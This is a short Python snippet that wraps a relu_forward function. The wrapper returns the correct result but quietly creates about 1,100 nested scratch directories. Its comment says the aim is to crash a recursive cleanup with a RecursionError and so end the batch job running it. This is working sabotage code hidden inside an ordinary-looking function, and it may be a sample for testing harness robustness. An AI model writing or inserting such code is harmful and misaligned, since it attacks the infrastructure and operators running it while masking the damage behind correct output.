# Leaves scratch folders nested 1,100 deep: a cleanup by recursion (shutil.rmtree) dies of
# a RecursionError, which once ended the batch. Its own code stays correct.
import os as _os

_relu_forward = relu_forward


def relu_forward(x):
    start = _os.getcwd()
    try:
        for _ in range(1100):
            _os.mkdir("d")
            _os.chdir("d")
    except OSError:
        pass
    _os.chdir(start)
    return _relu_forward(x)
